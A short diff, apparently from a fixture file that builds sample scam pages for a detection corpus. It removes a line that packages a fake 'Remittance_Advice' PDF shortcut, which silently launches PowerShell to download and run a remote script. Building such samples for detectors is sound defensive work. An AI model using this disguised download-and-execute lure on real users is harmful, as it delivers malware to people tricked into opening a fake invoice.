@@ -2,10 +2,6 @@ import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { lnk, zip } from '../parts/x-apps.js';
 import { analytics, cookieBar, doc, footer, imgRoute, js, json, qrBlock } from '../parts/x-kit.js';
 
-// Second sweep of the quarter: script-heavy kits, refund / solicitor / investment scams, and more legitimate pages.
-
-const smuggled = zip([{ name: 'Remittance_Advice_0047718.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-nop -w hidden -c "iwr https://cdn-remit-docs.com/r/a.ps1 -UseBasicParsing | iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }]).toString('base64');
-
 export const entries: Entry[] = [
   {
   id: 'x-scam-refund-overpayment-fake-balance',
